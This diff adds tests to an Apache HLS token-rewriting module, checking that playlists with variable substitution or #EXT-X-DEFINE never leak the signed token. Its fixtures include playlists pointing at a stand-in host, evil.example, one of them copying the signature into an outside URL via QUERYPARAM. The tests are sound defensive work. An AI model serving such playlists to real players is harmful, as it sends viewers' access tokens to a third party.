@@ -134,6 +134,45 @@ seg-1.ts<Q>
 ..//../l1/720p/seg-1.ts
 """
 
+# variable substitution (RFC 8216bis 4.3): a player replaces {$name} before it
+# resolves a URI, so "{$p}/seg-1.ts" may name any host; it never gets the
+# token, while plain URIs of the same playlist still do
+VARS = """\
+#EXTM3U
+#EXT-X-VERSION:8
+#EXT-X-KEY:METHOD=AES-128,URI="{$p}/key.bin"
+#EXT-X-MAP:URI="{$p}/init.mp4"
+#EXTINF:4.0,
+{$p}/seg-1.ts
+#EXTINF:4.0,
+seg-{$n}.ts
+#EXTINF:4.0,
+seg-2.ts<Q>
+"""
+
+# with #EXT-X-DEFINE anywhere the whole playlist passes through: once variables
+# are defined the filter cannot know what any URI resolves to
+DEFINE = """\
+#EXTM3U
+#EXT-X-VERSION:8
+#EXT-X-DEFINE:NAME="p",VALUE="https://evil.example/steal"
+#EXT-X-KEY:METHOD=AES-128,URI="{$p}/key.bin"
+#EXT-X-MAP:URI="{$p}/init.mp4"
+#EXTINF:4.0,
+{$p}/seg-1.ts
+#EXTINF:4.0,
+seg-2.ts
+"""
+
+# the tag in another case, after blanks, and QUERYPARAM (which copies the
+# playlist's own query, token included, into URIs): all pass through
+DEFINE_VARIANTS = {
+    "define-lower.m3u8": "#EXTM3U\n#ext-x-define:NAME=\"p\",VALUE=\"x\"\nseg-1.ts\n",
+    "define-blank.m3u8": "#EXTM3U\r\n \t#EXT-X-DEFINE:NAME=\"p\",VALUE=\"x\"\r\nseg-1.ts\r\n",
+    "define-qp.m3u8": "#EXTM3U\n#EXTINF:4.0,\nseg-1.ts\n#EXT-X-DEFINE:QUERYPARAM=\"mg_sig\"\n"
+                      "https://evil.example/x.ts?s={$mg_sig}\n",
+}
+
 # ~600 KB: reaches the filter from mod_proxy in many brigades
 LONG = "#EXTM3U\r\n" + "".join(f"#EXTINF:4.0,\r\nseg-{i}.ts<Q>\r\n" for i in range(30000)) \
     + "#EXT-X-ENDLIST"
@@ -195,6 +234,10 @@ def srv(apache_factory):
     big = "#EXTM3U\n" + "".join(f"#EXTINF:4.0,\nsegment-{i:08d}.ts\n" for i in range(160000))
     assert len(big) > 4 * 1024 * 1024
     write(s.htdocs / "videos/l1/720p/big.m3u8", big)
+    write(s.htdocs / "videos/l1/720p/vars.m3u8", plain(VARS))
+    write(s.htdocs / "videos/l1/720p/define.m3u8", DEFINE)
+    for name, text in DEFINE_VARIANTS.items():
+        write(s.htdocs / "videos/l1/720p" / name, text)
     write(s.htdocs / "videos/other/seg.ts", TS)
     write(s.htdocs / "ht/.htaccess", "Require media-guard hls\nMediaGuardHLSRewrite On\n")
     write(s.htdocs / "origin/live/l1/720p/long.m3u8", plain(LONG))
@@ -440,3 +483,22 @@ def test_percent_encoded_token_parameter_name_leaves_the_playlist_unchanged(srv,
     assert r.status_code == 200, r.headers.get("X-Media-Guard-Reason")
     assert r.content == plain(template(MEDIA, srv.port)).encode()
     assert srv.raw(url).content == expected(template(MEDIA, srv.port), token_of(url)).encode()
+
+
+def test_variable_uris_never_get_the_token(srv, sign):
+    url = sign("/videos/l1/720p/vars.m3u8", "--prefix", "/videos/l1/")
+    r = srv.get(url)
+    assert r.status_code == 200, r.headers.get("X-Media-Guard-Reason")
+    assert r.text == expected(VARS, token_of(url))
+    assert [u for u in uris(r.text) if "mg_sig=" in u] == ["seg-2.ts?" + token_of(url)]
+
+
+def test_playlist_with_ext_x_define_passes_through_with_a_log_line(srv, sign):
+    for name in ["define.m3u8"] + sorted(DEFINE_VARIANTS):
+        url = sign(f"/videos/l1/720p/{name}", "--prefix", "/videos/l1/")
+        mark = srv.mark()
+        r = srv.get(url)
+        assert r.status_code == 200, (name, r.headers.get("X-Media-Guard-Reason"))
+        assert r.content == (srv.htdocs / "videos/l1/720p" / name).read_bytes(), name
+        assert "mg_exp=" not in r.text, name
+        assert "not rewritten: it defines variables (#EXT-X-DEFINE)" in srv.error_log_since(mark)
